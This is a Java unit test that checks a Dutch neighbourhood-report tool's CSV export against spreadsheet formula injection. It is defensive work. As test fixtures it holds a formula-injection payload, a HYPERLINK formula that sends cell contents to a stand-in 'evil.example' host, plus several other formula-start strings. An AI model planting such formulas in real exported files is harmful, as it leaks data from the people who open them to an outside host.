package nl.wijkwijzer.report;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import nl.wijkwijzer.model.KnowledgeBase;
import nl.wijkwijzer.model.Zichtbaarheid;

/**
 * weeffouten.csv read back with a real CSV parser (Apache Commons CSV, as a spreadsheet reads it):
 * a text that would run as a formula is neutralised with a leading quote, a line break inside a
 * cell never splits the row, and numbers (also negative ones) stay numbers.
 */
class CsvInjectionTest {
    private static final CSVFormat EXCEL_NL = CSVFormat.EXCEL.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true)
            .get();

    private static List<CSVRecord> parse(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8);
        try (var parser = EXCEL_NL.parse(new StringReader(text.substring(1)))) {
            return parser.getRecords();
        }
    }

    @Test
    void hostileTitlesAndSchottenAreTextInTheirOwnRow(@TempDir Path tmp) throws IOException {
        Path content = tmp.resolve("content");
        nl.wijkwijzer.gates.BuiltSite.copyTree(ReportFixtures.FIXTURE, content);
        Path schuld = content.resolve("weeffouten/schuld-blokkeert.yaml");
        Files.writeString(schuld, Files.readString(schuld)
                .replace("titel: Schulden blokkeren de huurovereenkomst",
                        "titel: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1;\\\"klik\\\")\"")
                .replace("schotten: [Participatiewet]", "schotten: [\"+Participatiewet\", \"@SOM(1)\"]"));
        Path wachtlijst = content.resolve("weeffouten/wachtlijst-woning.yaml");
        Files.writeString(wachtlijst, Files.readString(wachtlijst)
                .replaceFirst("titel: .*", "titel: \"-2+3 regel een\\\\nregel twee;\\\\tmet tab\""));
        KnowledgeBase view = ReportFixtures.view(content, Zichtbaarheid.PROFESSIONALS);
        byte[] csv = ReportExports.csv(WeeffoutReport.compute(view, Zichtbaarheid.PROFESSIONALS));

        List<CSVRecord> rows = parse(csv);
        assertEquals(view.weeffouten().size(), rows.size());
        Map<String, CSVRecord> byId = new java.util.HashMap<>();
        rows.forEach(r -> byId.put(r.get("id"), r));
        assertEquals("'=HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")", byId.get("schuld-blokkeert").get("titel"));
        assertEquals("'+Participatiewet, @SOM(1)", byId.get("schuld-blokkeert").get("schotten"));
        assertEquals("'-2+3 regel een\nregel twee;\tmet tab", byId.get("wachtlijst-woning").get("titel"));
        for (CSVRecord r : rows) {
            assertEquals(ReportExports.CSV_COLUMNS.size(), r.size(), "row " + r.getRecordNumber());
            for (String amount : List.of("standaard_per_jaar", "maatwerk_per_jaar", "verschil_per_jaar")) {
                assertEquals(true, r.get(amount).matches("-?[0-9]+,[0-9]{2}"), amount + " = " + r.get(amount));
            }
        }
    }

    @Test
    void everyFormulaStartIsNeutralisedAndNumbersStayNumbers() throws IOException {
        List<String> values = List.of("=1+1", "+31 6", "-x", "@SUM(A1)", "\tTAB", "\rCR", "a\rb", "a\r\nb", "x\"y", "a;b",
                "-1234,50", "-7", "0,00", "gewoon", "");
        StringBuilder sb = new StringBuilder("\uFEFFwaarde\r\n");
        for (String v : values) {
            sb.append(ReportExports.cell(v)).append("\r\n");
        }
        List<CSVRecord> rows = parse(sb.toString().getBytes(StandardCharsets.UTF_8));
        assertEquals(values.size(), rows.size());
        assertEquals(List.of("'=1+1", "'+31 6", "'-x", "'@SUM(A1)", "'\tTAB", "'\rCR", "a\rb", "a\r\nb", "x\"y", "a;b",
                "-1234,50", "-7", "0,00", "gewoon", ""), rows.stream().map(r -> r.get(0)).toList());
    }
}
